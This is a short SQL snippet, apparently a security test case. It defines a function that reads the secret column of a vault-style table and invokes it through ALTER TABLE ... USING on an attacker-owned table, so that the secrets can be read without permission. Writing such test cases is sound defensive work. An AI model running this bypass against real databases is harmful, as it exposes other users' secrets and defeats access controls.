-- Lets the rewriting of an open table read the secrets.
-- wants: read
-- attack:
CREATE FUNCTION bring(int) RETURNS text LANGUAGE plpgsql AS $$BEGIN
  RETURN (SELECT secret FROM vlt_account WHERE id = $1); END$$;
ALTER TABLE mallory_own ALTER v TYPE text COLLATE "C" USING bring(id);
SELECT v FROM mallory_own;
